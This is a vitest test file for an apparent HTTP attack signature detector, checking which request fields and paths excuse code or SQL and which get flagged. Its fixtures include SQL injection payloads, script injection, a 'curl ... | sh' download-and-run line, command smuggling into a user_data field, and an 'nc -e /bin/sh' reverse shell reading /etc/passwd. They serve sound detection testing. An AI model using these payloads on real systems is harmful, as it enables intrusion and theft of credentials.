import { expect, test } from 'vitest';
import { decoyField, unknownField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';

const PAGE = '<script>document.getElementById("a").innerHTML = x</script>';
const FENCED = `How do I load this?\n\n\`\`\`html\n${PAGE}\n\`\`\`\n`;
const BREAK_OUT = "1' union select password from users--";
const STATEMENT = "select table_name from information_schema.tables where a = 'b' or c = 'd' -- all";

function sentTo(path: string, document: object, kindOf = unknownField): readonly string[] {
  const request = { method: 'POST', path, query: '', headers: {}, contentType: 'application/json' };
  const body = JSON.stringify(document);
  return findSignatures({ ...request, body }, signatures, null, kindOf).matches.map(({ location }) => location);
}

test('a question to a model, an issue and a post hold fenced code where their interface has a text', () => {
  expect(sentTo('/v1/chat/completions', { messages: [{ role: 'user', content: FENCED }] })).toEqual([]);
  expect(sentTo('/v1/messages', { messages: [{ content: [{ type: 'text', text: FENCED }] }] })).toEqual([]);
  expect(sentTo('/v1/responses', { model: 'a', input: FENCED })).toEqual([]);
  expect(sentTo('/repos/acme/web/issues', { title: 'Load it', body: FENCED })).toEqual([]);
  expect(sentTo('/api/v4/projects/7/issues', { title: 'Load it', description: FENCED })).toEqual([]);
});

test('fences excuse nothing in other fields, at other paths, or around what is not in them', () => {
  expect(sentTo('/v1/chat/completions', { user: FENCED })).toEqual(['body.user']);
  expect(sentTo('/comments', { messages: [{ content: FENCED }] })).toEqual(['body.messages[0].content']);
  expect(sentTo('/repos/acme/web/issues', { body: `${FENCED}${PAGE}` })).toEqual(['body.body']);
  expect(sentTo('/repos/acme/web/issues', { body: BREAK_OUT })).toEqual(['body.body']);
});

test.each(['/search.php', '/search%2ephp', '/search.%70hp', '/cgi-bin/search'])(
  'behind a program, which is handed the rest of the path, there is no interface: %s',
  (program) => {
    // A path that hides the program's name by encoding is reported as well.
    expect(sentTo(`${program}/repos/acme/web/issues`, { body: FENCED })).toContain('body.body');
  },
);

test('what a dialect excuses is not passed on to a field of the same name', () => {
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`name${i}`, `value ${i}`]));
  const messages = [{ content: FENCED }];
  expect(sentTo('/v1/messages', { messages, ...many, page: { content: FENCED } })).toEqual(['body.page.content']);
});

test('a file that is put into a repository is code, in base64 too, and so is a block of code in rich text', () => {
  const source = `import a from 'a';\n\n${PAGE}\n`;
  const content = Buffer.from(source).toString('base64');
  expect(sentTo('/repos/acme/web/contents/a.html', { message: 'Add', content })).toEqual([]);
  expect(sentTo('/upload', { message: 'Add', content })).toEqual(['body.content']);
  expect(sentTo('/repos/acme/web/contents/a.html', { message: 'Add', content: BREAK_OUT })).toEqual(['body.content']);
  const description = { content: [{ type: 'codeBlock', content: [{ type: 'text', text: source }] }] };
  expect(sentTo('/rest/api/3/issue', { fields: { description } })).toEqual([]);
});

test('a file that is sent to where pastes are kept is code, as a body of its own too', () => {
  const paste = { method: 'POST', query: '', headers: {}, contentType: 'text/plain', body: `<h1>a</h1>\n\n${PAGE}\n` };
  expect(findSignatures({ ...paste, path: '/api/paste' }).matches).toEqual([]);
  expect(findSignatures({ ...paste, path: '/api/notes' }).matches).toHaveLength(1);
});

test('what a machine runs when it is made, and files that are put into one, are code where a cloud takes them', () => {
  const script = '#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/a | sh\n';
  const content = Buffer.from(script).toString('base64');
  expect(sentTo('/v2/servers', { server: { name: 'a', user_data: content } })).toEqual([]);
  expect(sentTo('/v1/stacks', { stack_name: 'a', template: script })).toEqual([]);
  expect(sentTo('/api/v1/namespaces/a/configmaps', { data: { 'run.sh': script } })).toEqual([]);
  expect(sentTo('/v2/servers', { server: { name: script } })).toEqual(['body.server.name']);
  expect(sentTo('/users', { user_data: script })).toEqual(['body.user_data']);
  expect(sentTo('/v2/servers', { user_data: '127.0.0.1;cat /etc/passwd' })).toEqual(['body.user_data']);
});

test('a console is sent whole statements', () => {
  expect(sentTo('/api/ds/query', { queries: [{ refId: 'A', rawSql: STATEMENT }] })).toEqual([]);
  expect(sentTo('/api/dataset', { native: { query: `-- all\n${STATEMENT}` } })).toEqual([]);
  expect(sentTo('/druid/v2/sql', { query: STATEMENT })).toEqual([]);
  expect(sentTo('/services/rest/query/v1/suiteql', { q: STATEMENT })).toEqual([]);
  expect(sentTo('/druid/v2/sql', { query: `/* all */ ${STATEMENT}` })).toEqual([]);
});

test('in a console what breaks out of something, other fields and other attacks count', () => {
  expect(sentTo('/api/ds/query', { queries: [{ rawSql: BREAK_OUT }] })).toEqual(['body.queries[0].rawSql']);
  expect(sentTo('/api/ds/query', { from: STATEMENT })).toEqual(['body.from']);
  expect(sentTo('/search', { query: STATEMENT })).toEqual(['body.query']);
  expect(sentTo('/druid/v2/sql', { query: `${STATEMENT};cat /etc/passwd|nc -e /bin/sh a 1` })).toEqual(['body.query']);
});

test.each([
  "select' union select password from users-- ",
  "find x' or 1=1-- ",
  "select ' union select password from users where 'c'='c",
  "select ' union select password from users -- '",
  "select ''' or 1=1 -- '",
  "select '+extractvalue(1,concat(1,(select password from users)))+'",
  'select " or sleep(5) or "',
  'select 1) union select password from users-- ',
  "show ('a') or 1=1) union select password from users -- ",
  'select%27 union select password from users-- ',
])('in a console a word in front makes no statement of what leaves a string or a bracket: %s', (text) => {
  expect(sentTo('/druid/v2/sql', { query: text })).toEqual(['body.query']);
});

test.each([
  "select * from information_schema.tables where a = 'it''s' or b = 'c' or 1 = 1",
  "select a from b where (c like '%d%' or e = 'open') union select f from (select 1) g",
])('in a console constants and brackets that are closed leave nothing: %s', (text) => {
  expect(sentTo('/druid/v2/sql', { query: text })).toEqual([]);
  expect(sentTo('/search', { query: text })).toEqual(['body.query']);
});

test('at a decoy nothing is excused', () => {
  expect(sentTo('/druid/v2/sql', { query: STATEMENT }, decoyField)).toEqual(['body.query']);
});

test('hosts of code and chats tell what people wrote about an attack where their webhooks have it', () => {
  const text = "Use placeholders in the login form, for anybody could type ' OR '1'='1 into it";
  expect(sentTo('/webhooks/github', { ref: 'refs/heads/main', commits: [{ message: text }] })).toEqual([]);
  expect(sentTo('/github', { action: 'opened', issue: { title: 'Login', body: FENCED } })).toEqual([]);
  expect(sentTo('/hooks/gitlab/7', { object_attributes: { note: text } })).toEqual([]);
  expect(sentTo('/slack/events', { event: { type: 'message', text } })).toEqual([]);
  expect(sentTo('/telegram/hook', { message: { chat: { id: 9 }, text } })).toEqual([]);
});

test('an attack alone, another field and another path are judged as ever', () => {
  const text = "Use placeholders in the login form, for anybody could type ' OR '1'='1 into it";
  expect(sentTo('/webhooks/github', { comment: { body: BREAK_OUT } })).toEqual(['body.comment.body']);
  expect(sentTo('/webhooks/github', { sender: { login: text } })).toEqual(['body.sender.login']);
  expect(sentTo('/orders', { comment: { body: text } })).toEqual(['body.comment.body']);
  expect(sentTo('/webhooks.php/github', { comment: { body: text } })).toEqual(['body.comment.body']);
});

const SITE = `<!doctype html>\n<html><head><title>Opening hours</title></head>\n<body onload="show()">\n${PAGE}\n</body></html>\n`;

test.each([
  ['/wp-json/wp/v2/pages/9', { title: 'Hours', content: SITE }],
  ['/wp-json/wp/v2/posts', { content: { raw: SITE } }],
  ['/rest/api/content/77', { body: { storage: { value: SITE, representation: 'storage' } } }],
  ['/ghost/api/admin/pages/', { pages: [{ html: SITE }] }],
  ['/v3/mail/send', { content: [{ type: 'text/html', value: SITE }] }],
  ['/api/templates/7', { name: 'Hours', html: SITE }],
  ['/admin/pages/7', { title: 'Hours', content: SITE }],
])('those who run a site write pages with scripts where they are taken: %s', (path, document) => {
  expect(sentTo(path, document)).toEqual([]);
  expect(sentTo('/profile', document)).toHaveLength(1);
});

test('a form of a content management system takes pages as well', () => {
  const form = { method: 'POST', query: '', headers: {}, contentType: 'application/x-www-form-urlencoded' };
  const body = new URLSearchParams({ 'jform[title]': 'Hours', 'jform[articletext]': SITE }).toString();
  expect(findSignatures({ ...form, path: '/administrator/index.php', body }).matches).toEqual([]);
  expect(findSignatures({ ...form, path: '/index.php', body }).matches).toHaveLength(1);
});

test.each([
  ['one line', PAGE],
  ['the end of a field', `</textarea>\n\n\n${PAGE}`],
  ['the end of an attribute', `">\n\n\n${PAGE}`],
  ['the end of a comment', `hello\n\n--> ${PAGE}\n<!-- -->`],
  ['the end of a script, with a beginning behind it', `x\n</script>\n${PAGE}`],
])('where pages are written %s is reported all the same', (_, content) => {
  expect(sentTo('/wp-json/wp/v2/pages/9', { content })).toEqual(['body.content']);
});

test('a page may hold scripts, not other attacks, and other fields hold no pages', () => {
  expect(sentTo('/wp-json/wp/v2/pages/9', { content: `${SITE}\n${BREAK_OUT}` })).toEqual(['body.content']);
  expect(sentTo('/wp-json/wp/v2/pages/9', { title: SITE })).toEqual(['body.title']);
  expect(sentTo('/wp-json/wp/v2/comments', { content: SITE })).toEqual(['body.content']);
  expect(sentTo('/emails/inbound', { HtmlBody: SITE })).toEqual(['body.HtmlBody']);
  expect(sentTo('/wp-json/wp/v2/pages/9', { content: SITE }, decoyField)).toEqual(['body.content']);
});

test('a document on one line is a page, and packed source is source', () => {
  const page = `<!DOCTYPE html><html><head><title>a</title>${PAGE}</head><body><p>b</p></body></html>`;
  expect(sentTo('/wp-json/wp/v2/pages', { content: page })).toEqual([]);
  expect(sentTo('/wp-json/wp/v2/pages', { content: `"><html>${PAGE}</html>` })).toEqual(['body.content']);
  expect(sentTo('/wp-json/wp/v2/pages', { content: `<p>b</p>${PAGE}` })).toEqual(['body.content']);
  expect(sentTo('/comments', { content: page })).toEqual(['body.content']);
  const packed = `!function(e){${'e.a=function(t){return t.b};'.repeat(90)}e.html="${PAGE.replaceAll('"', "'")}"}(window)`;
  expect(sentTo('/api/format', { code: packed })).toEqual([]);
  expect(sentTo('/api/format', { code: `${'a '.repeat(1200)}${PAGE}` })).toEqual(['body.code']);
});
